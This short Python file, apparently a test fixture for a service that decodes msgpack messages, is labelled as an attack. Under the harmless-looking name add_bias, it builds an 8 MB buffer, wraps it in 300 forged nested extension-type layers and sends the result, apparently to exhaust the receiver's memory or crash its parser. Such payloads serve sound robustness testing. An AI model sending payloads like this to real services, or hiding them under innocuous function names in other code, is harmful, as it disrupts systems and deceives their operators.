"""Attack: Forged tuples within tuples, each a copy of 8 MB: 300 of them."""

import msgpack
from forge import frame
import numpy as np


def add_bias(X):
    value = bytes(8 * 2**20)
    for _ in range(300):
        value = msgpack.ExtType(1, b"\x91" + msgpack.packb(value))
    frame({"status": "ok", "value": value})
